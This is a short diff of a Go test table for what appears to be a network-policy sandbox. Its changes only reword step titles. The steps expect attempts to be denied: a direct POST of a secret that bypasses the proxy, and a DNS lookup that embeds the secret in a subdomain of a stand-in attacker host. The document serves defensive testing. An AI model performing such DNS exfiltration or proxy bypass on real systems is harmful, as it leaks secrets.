@@ -42,7 +42,7 @@ var steps = []step{
 		verdict: "deny", host: "api.demo.test",
 	},
 	{
-		title: "the POST by a client that knows no proxy",
+		title: "the POST by a client without proxy settings",
 		args:  []string{"direct", "POST", "https://api.demo.test/v1/issues", secret}, answers: []string{" 403 ", `"error":"policy_denied"`},
 		verdict: "deny", host: "api.demo.test",
 	},
@@ -67,7 +67,7 @@ var steps = []step{
 		line: "network_policies:", verdict: "deny", host: "evil.demo.test",
 	},
 	{
-		title: "a secret carried out in a name (DNS)",
+		title: "a secret exfiltrated in a DNS name",
 		args:  []string{"lookup", secret + ".attacker.test"}, answers: []string{"error: ", "no such host"},
 		line: "network_policies:", verdict: "deny", host: secret + ".attacker.test",
 	},
